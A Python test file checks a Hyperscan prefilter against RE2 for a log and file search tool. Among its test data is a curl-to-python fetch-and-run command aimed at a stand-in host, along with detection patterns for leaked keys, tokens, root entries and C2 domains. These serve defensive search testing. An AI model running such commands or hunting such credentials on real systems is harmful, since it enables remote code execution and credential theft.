"""Hyperscan as a filter: it may say yes too often, and never no where RE2 finds something."""

import random
import sys
import threading
from pathlib import Path
from typing import Any

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from investigator.errors import BadRegex
from investigator.modules.file.content import LinePattern
from investigator.modules.patterns import libhs
from investigator.modules.patterns.hyper import compile_filter, library
from investigator.modules.patterns.libhs import Database
from investigator.modules.patterns.superset import compile_superset, superset
from pattern_texts import FILLERS, PATTERNS, TEXTS, drawn_block, drawn_pattern, parsed

needs_hyperscan = pytest.mark.skipif(library() is None, reason="no Hyperscan here")


def filter_for(pattern: str) -> Database | None:
    rewritten = superset(pattern)
    program = compile_superset(rewritten)
    return None if rewritten is None or program is None else compile_filter(rewritten, program.programsize)


@needs_hyperscan
@settings(max_examples=700, deadline=None)
@given(PATTERNS, st.lists(TEXTS | FILLERS, min_size=1, max_size=6))
@example("caf. x", [b"caf\xe9 x"])
@example("(?i)pass", ["paſſ".encode()])
@example("(?i)kernel", ["\u212aernel".encode()])
@example("x$", [b"x\r"])
@example("^$", [b"a", b""])
@example("^.{2}x", ["\U0001f600éx".encode()])
@example("^[^a]{1,2}x", ["éé".encode() + b"x"])
@example(r"\Bab", [b"b", b"ab", b"xab"])
@example(r"$\b", [b"a\r"])
@example(r"[^a]{2}", [b"\xff\xc3"])
@example("", [b""])
def test_it_never_says_no_to_a_line_that_re2_matches_wherever_it_stands(pattern: Any, lines: Any) -> None:
    try:
        judge, chosen = LinePattern(pattern), filter_for(pattern)
    except BadRegex:
        return
    if chosen is None:
        return
    block = b"\n".join(lines) + b"\n"
    start = 0
    for line in block.split(b"\n")[:-1]:
        end = start + len(line) + 1
        if judge.matches(line.removesuffix(b"\r")):
            assert chosen.may_match(block, 0, len(block))
            assert chosen.may_match(block, start, end)
            assert chosen.may_match(bytearray(block), max(start - 1, 0), end)
        start = end


@needs_hyperscan
@settings(max_examples=300, deadline=None)
@given(st.integers(0, 2**63))
def test_it_never_says_no_where_the_width_of_its_registers_matters(seed: int) -> None:
    """Texts that match, at places and in blocks whose sizes are about multiples of 16, 32 and 64, at every alignment."""
    draw = random.Random(seed)
    pattern = drawn_pattern(draw)
    rewritten = superset(pattern, raw=draw.random() < 0.3)
    program = compile_superset(rewritten)
    if rewritten is None or program is None:
        return
    chosen = compile_filter(rewritten, program.programsize)
    if chosen is None:
        return
    tree = parsed(rewritten.pattern)
    for _ in range(20):
        block = drawn_block(draw, tree)
        start = draw.randrange(64)
        placed = bytearray(start) + block
        last = len(block) - block.endswith(b"\n")  # what stands behind the last newline is no line
        if program.search(block, 0, last) is not None:
            assert chosen.may_match(placed, start, len(placed)), (pattern, block)


@needs_hyperscan
@pytest.mark.parametrize(
    ("pattern", "block"),
    [
        (r"a\r?$", b"a" * 31 + b"\n"),
        ("b{1,3}$", b"b" * 67 + b"\r"),
        ("[\\t\\f\\r ]+k*k", b"a" * 16 + b"\nxb1 11  bkkk11bk xb 1kkk ka11\n"),
        (r"^\d{1,3}\b", bytes(127) + b"\n731"),
        ("^k|.{1,3}ab$", b"the quick brown \n\xc8a\x98ab"),
        (r"^\s*a", (b"k\r\nbbk\xe9\xe91bxb1kb a k1\xe9\xe9kk1bkbkb1\xe9b x\xe9 \xe9k\xe9\xe9ax bb x1xx  \xe9axx1\xe9\xe9k\xe9bx1bx1 ak  \xe9a x\xe911 a"
         b"  aaa  kxbxbbb \xe9bbb1b\nak xx\n")),
        (r"a\d*ab?", b"b\xe91bxbkax 1\xe9kk 1a\xe91b kkaxbxa a\xe9111xbx x1\xe9\xe9 bb\xe9xa 1k b \xe9b\xe9ak1bx1aa\n"),
        (r"\b\s+k", b"k\xe9 \xe91kk\xe9b1bax xkax\xe9b\xe9\xe9bb b a k \n" + b"ab" * 32 + b"\nx\r\n"),
        (r"\d\d{1,3}k*k+", b" xk1x1xx bb\xe9bkx ax\xe9ak\xe91a 1 a\xe9xb bbak1xbk11ka\xe9baa  \xe9axba  1 \xe9\xe9\xe91 x\n"),
        (r"\ba*\sx+", b"kk\xe9k1kbb11 bk a1abkx1 x  k 11ka\xe9\n\n  \n"),
        ("^[ab]*ab*", (b"\xe9\xe9xb\xe9\xe91 \xe91bxx1ba1\xe9\xe9 ba\xe9k \xe9xk kkabk1k1baxxakakb\xe9kk1ax \xe91k\xe91k\xe9ak1ak\xe91    k kxbx\xe9\xe91xk1\xe9abak"
         b"\xe9x\xe9k1x aab\xe9 \n\n  \xe91k\xe9bka \xe91aa baxk\xe91 xb\xe9\xe9111\xe9xa a k1 b  1axxbaxaa a \xe9a\xe9k\xe9abb a\r\nab\n")),
        (r"curl.*\|\s*python", b"curl http://vader:8080/ 2>&1 | python"),
        ("(?i)^.*TAPIOCA.*EX.*$|^.*BOBA.*GUY.*$|^.*PAYPAL.*JACQUES.*MARI.*$|^GUCCI FRANCE.*$|^.*XING.*FU.*TAN.*$", b"TAPIOCA HOUSE TUXTLA GUTIER MEX"),
        ("|".join(f"^f{n:x}{n * 7919:x}-nml/ny(?:ze|ye)/khj" for n in range(60)) + "|^cop/devel/work-(prod|test)-.*/[0-9]+$", b"cop/devel/work-prod-eu/731"),
    ],
)  # fmt: skip
def test_what_other_builds_missed_is_found(pattern: Any, block: Any) -> None:
    """Vectorscan 5.4.11 and 5.4.12 did (its issues 317 and 382, and what a comparison with RE2 found)."""
    rewritten = superset(pattern)
    program = compile_superset(rewritten)
    assert rewritten is not None
    assert program is not None
    assert program.search(block) is not None
    chosen = compile_filter(rewritten, program.programsize)
    assert chosen is None or chosen.may_match(block, 0, len(block))
    assert chosen is not None or len(pattern) > 1000


@needs_hyperscan
@pytest.mark.parametrize(
    "pattern",
    ["kernel_secret_key", "^root:", "(?i)private_token", "(ghp|gho)_[0-9A-Za-z]{36}|AKIA[0-9A-Z]{16}", "[a-z0-9]+@evil[.]example",
     r"\bsshd?\b.*Accepted", "x$", "password.{0,30}=", "|".join(rf"c2-{n:04}\.example\.org" for n in range(400))],
)  # fmt: skip
def test_what_people_ask_is_taken(pattern: Any) -> None:
    chosen = filter_for(pattern)
    assert chosen is not None
    assert not chosen.may_match(b"nothing of the kind\n" * 100, 0, 2000)


@needs_hyperscan
def test_a_match_in_a_block_is_seen() -> None:
    chosen = filter_for("needle$")
    assert chosen is not None
    block = bytearray(b"hay\n" * 1000 + b"needle\r\n" + b"hay\n" * 1000)
    assert chosen.may_match(block, 0, len(block))
    assert not chosen.may_match(block, 0, 4003)
    assert not chosen.may_match(block, 4001, len(block))
    assert chosen.may_match(bytes(block), 3999, 4008)


@pytest.mark.parametrize(
    "pattern",
    [".{1000}x", "(a.{50}b|c.{60}d){10}", "(?:(?:a.){1,30}b){1,30}", "([^a]{1,99}b){9}", "(?i)(?:(?:k.*){9}s){9}", "é{900}",
     "|".join(f"w{n}" for n in range(3000))],
)  # fmt: skip
def test_what_may_take_its_compiler_long_is_left_to_re2(pattern: Any) -> None:
    assert filter_for(pattern) is None


def test_what_it_refuses_is_left_to_re2() -> None:
    assert filter_for(r"\n") is None  # a class with nothing in it


@needs_hyperscan
def test_threads_share_filters_of_different_sizes() -> None:
    chosen = [filter_for(pattern) for pattern in ("needle", "ne{2}dle.{0,9}x?", r"\bn[a-e]+dle\b", "needle|thread")]
    interval = sys.getswitchinterval()
    sys.setswitchinterval(1e-5)
    wrong: list[int] = []

    def scan(seed: int) -> None:
        draw = random.Random(seed)
        for _ in range(300):
            there = draw.random() < 0.5
            block = b"hay\n" * draw.randrange(5000) + (b"needle" if there else b"noodle") + b"\n" + b"hay\n" * 50
            found = draw.choice(chosen)
            assert found is not None
            if found.may_match(bytearray(block), 0, len(block)) != there:
                wrong.append(seed)
            if draw.random() < 0.05:
                chosen[draw.randrange(4)] = filter_for("needle" + "[a-z]?" * draw.randrange(20))

    threads = [threading.Thread(target=scan, args=(seed,)) for seed in range(4)]
    try:
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
    finally:
        sys.setswitchinterval(interval)
    assert wrong == []


@pytest.fixture
def asked_again() -> Any:
    """`library` forgets what it found before and after."""
    library.cache_clear()
    yield
    library.cache_clear()


@needs_hyperscan
def test_another_build_than_the_proven_one_is_not_taken(monkeypatch: Any, asked_again: Any) -> None:
    monkeypatch.setattr(libhs, "PROVEN_VERSION", b"5.4.12 2026-01-01")
    assert library() is None
    assert filter_for("needle") is None


def test_a_host_without_it_has_re2_alone(monkeypatch: Any, asked_again: Any) -> None:
    monkeypatch.setattr(libhs, "find_spec", lambda name: None)
    assert library() is None
    assert filter_for("needle") is None


def test_what_is_no_library_is_passed_over(monkeypatch: Any, asked_again: Any, tmp_path: Path) -> None:
    (tmp_path / "lib").mkdir()
    (tmp_path / "lib" / "libhs.so.5.4.2").write_bytes(b"no library")
    monkeypatch.setattr(libhs, "find_spec", lambda name: type("", (), {"submodule_search_locations": [str(tmp_path)]}))
    assert library() is None


def test_a_library_that_cannot_search_says_that_it_may_match() -> None:
    class Broken:
        idle: list[Any] = []  # noqa: RUF012 - stands in for a library
        stop = free_database = None

        def take_scratch(self, least: int) -> Any:
            return libhs.Scratch(None, 1)  # type: ignore[arg-type] # never looked at

        def scan(self, *_: Any) -> int:
            return -13  # HS_UNKNOWN_ERROR

    broken: Any = Broken()
    broken.free_database = lambda _: None
    chosen = Database(broken, None, 1)  # type: ignore[arg-type] # never looked at
    assert chosen.may_match(b"block", 0, 5)
    broken.take_scratch = lambda least: None  # no memory
    assert chosen.may_match(b"block", 0, 5)
